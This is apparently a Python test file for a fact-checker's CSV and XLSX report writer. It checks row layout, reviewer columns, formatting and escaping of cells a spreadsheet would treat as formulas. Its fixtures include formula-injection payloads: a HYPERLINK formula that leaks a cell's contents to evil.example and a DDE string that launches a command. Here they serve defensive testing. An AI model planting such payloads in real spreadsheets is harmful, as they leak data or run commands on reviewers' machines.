"""results.csv and results.xlsx: one row per claim for reviewers, safe to open in a spreadsheet."""

import csv
import io
import zipfile

import openpyxl

from checker.models import Claim, Evidence, Finding, Kind, Result, SourceCheck, Verdict
from checker.report import Run, write_reports
from checker.report import csv_report, xlsx_report
from checker.report.spreadsheet import COLUMNS
from checker.reviews import Review, evidence_hash

MEMO = ("https://bidenwhitehouse.archives.gov/briefing-room/presidential-actions/2022/09/15/"
        "memorandum-on-the-delegation-of-authority-under-section-506a1-of-the-foreign-assistance-act-of-1961-14/")
# Real text: the 2022-09-15 White House memorandum on the $600 million drawdown.
MEMO_TEXT = ("I hereby delegate to the Secretary of State the authority under section 506(a)(1) of the FAA to direct "
             "the drawdown of up to $600 million in defense articles and services of the Department of Defense")
# Synthetic hostile strings, as an attacker would put them into a claims file or a source.
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
AT_SUM = "@SUM(1)"


def seed_run(reviews: dict | None = None) -> Run:
    evidence = Evidence(MEMO, MEMO_TEXT, 10, 10 + len(MEMO_TEXT), "para 3")
    finding = Finding(Verdict.SUPPORTED, 1.0, "source says $600 million", (evidence,))
    memo = SourceCheck(MEMO, "ok", recording="cassettes/bidenwhitehouse.archives.gov/memo-95094deb09.yaml",
                       provenance={"provenance": "archived-copy"}, finding=finding)
    supported = Result(Claim("aid-600m", "an additional $600 million in weapons", Kind.AMOUNT, "$600 million",
                             sources=(MEMO,), row=2),
                       Verdict.SUPPORTED, 1.0, "source says $600 million", (evidence,), (memo,))
    hostile = Result(Claim("hostile-1", HYPERLINK, Kind.STATEMENT, AT_SUM, row=3), Verdict.NOT_FOUND, 0.0,
                     "-1 passages: +cmd|' /C calc'!A0", ())
    unchecked = Result(Claim("s1", "No source", Kind.STATEMENT, row=4), Verdict.SOURCE_UNAVAILABLE, 0.0,
                       "no_source: claims.csv names no source for this claim")
    return Run((supported, hostile, unchecked), reviews=reviews or {}, report_dir="reports")


def csv_rows(run: Run) -> list[dict[str, str]]:
    text = csv_report.render(run)
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def xlsx_sheet(run: Run):
    return openpyxl.load_workbook(io.BytesIO(xlsx_report.render(run))).active


def test_csv_has_one_row_per_claim_with_verdict_evidence_links_and_empty_reviewer_columns():
    rows = csv_rows(seed_run())

    assert [row["id"] for row in rows] == ["aid-600m", "hostile-1", "s1"]
    assert list(rows[0]) == list(COLUMNS)
    assert rows[0] == {
        "id": "aid-600m", "verdict": "supported", "score": "1.0", "reason": "source says $600 million",
        "claim": "an additional $600 million in weapons", "kind": "amount", "expected": "$600 million",
        "evidence": MEMO_TEXT, "locator": f"para 3, characters 10-{10 + len(MEMO_TEXT)}", "source_url": MEMO,
        "recorded_copy": "../cassettes/bidenwhitehouse.archives.gov/memo-95094deb09.yaml", "archived_snapshot": "",
        "sources": f"{MEMO} (read)", "evidence_hash": evidence_hash(seed_run().results[0]), "review_status": "",
        "reviewer_verdict": "", "reviewer_note": "", "reviewer": "",
    }


def test_csv_neutralises_every_cell_that_a_spreadsheet_would_run_as_a_formula():
    hostile = csv_rows(seed_run())[1]

    assert hostile["claim"] == "'" + HYPERLINK
    assert hostile["expected"] == "'@SUM(1)"
    assert hostile["reason"] == "'-1 passages: +cmd|' /C calc'!A0"
    assert hostile["score"] == "0.0"


def test_xlsx_neutralises_the_same_cells_and_holds_them_as_text_never_as_formulas():
    data = xlsx_report.render(seed_run())
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    header = [cell.value for cell in sheet[1]]
    claim, expected = sheet.cell(3, header.index("claim") + 1), sheet.cell(3, header.index("expected") + 1)

    assert (claim.value, claim.data_type) == ("'" + HYPERLINK, "s")
    assert (expected.value, expected.data_type) == ("'@SUM(1)", "s")
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert "<f>" not in package.read("xl/worksheets/sheet1.xml").decode("utf-8")


def test_xlsx_numbers_stay_numbers_even_negative_ones():
    run = seed_run()
    negative = Result(run.results[0].claim, Verdict.NEEDS_REVIEW, -0.5, "synthetic negative score")
    sheet = xlsx_sheet(Run((negative,)))

    score = sheet.cell(2, COLUMNS.index("score") + 1)
    assert (score.value, score.data_type) == (-0.5, "n")


def test_xlsx_has_a_frozen_header_a_filter_a_verdict_dropdown_links_and_a_fill_by_verdict():
    sheet = xlsx_sheet(seed_run())
    column = {name: index + 1 for index, name in enumerate(COLUMNS)}

    assert [cell.value for cell in sheet[1]] == list(COLUMNS)
    assert sheet.freeze_panes == "B2"
    assert sheet.auto_filter.ref == "A1:R4"
    (dropdown,) = sheet.data_validations.dataValidation
    assert str(dropdown.sqref) == "P2:P4" and COLUMNS[15] == "reviewer_verdict"
    assert dropdown.type == "list"
    assert dropdown.formula1 == '"supported,partially_supported,contradicted,not_found,source_unavailable,needs_review"'
    assert sheet.cell(2, column["source_url"]).hyperlink.target == MEMO
    assert (sheet.cell(2, column["recorded_copy"]).hyperlink.target
            == "../cassettes/bidenwhitehouse.archives.gov/memo-95094deb09.yaml")
    assert sheet.cell(4, column["source_url"]).hyperlink is None
    fills = [sheet.cell(row, column["verdict"]).fill.fgColor.rgb for row in (2, 3, 4)]
    assert fills == ["00C8E6C9", "00E0E0E0", "00D7CCE8"]


def test_a_kept_review_is_filled_in_again_and_a_stale_one_is_only_described():
    run = seed_run()
    current = Review("aid-600m", Verdict.SUPPORTED, "memo says it", "ann", evidence_hash(run.results[0]),
                     reviewed_at="2026-11-20T10:00:00+00:00")
    stale = Review("hostile-1", Verdict.CONTRADICTED, "=looked wrong", "bo", "0" * 64,
                   reviewed_at="2026-11-21T10:00:00+00:00", stale=True)

    rows = csv_rows(seed_run({"aid-600m": current, "hostile-1": stale}))

    assert {k: rows[0][k] for k in ("review_status", "reviewer_verdict", "reviewer_note", "reviewer")} == {
        "review_status": "kept: decided by ann on 2026-11-20T10:00:00+00:00", "reviewer_verdict": "supported",
        "reviewer_note": "memo says it", "reviewer": "ann"}
    assert {k: rows[1][k] for k in ("review_status", "reviewer_verdict", "reviewer_note", "reviewer")} == {
        "review_status": "stale: contradicted by bo on 2026-11-21T10:00:00+00:00 was decided on other evidence; "
                         "the source has changed since",
        "reviewer_verdict": "", "reviewer_note": "", "reviewer": ""}


def test_csv_and_xlsx_are_written_beside_the_other_reports(tmp_path):
    written = write_reports(seed_run(), tmp_path, ("json", "csv", "xlsx"))

    assert [path.name for path in written] == ["results.json", "results.csv", "results.xlsx"]
    assert zipfile.is_zipfile(tmp_path / "results.xlsx")
    assert (tmp_path / "results.csv").read_bytes().startswith(b"\xef\xbb\xbfid,verdict,score,")
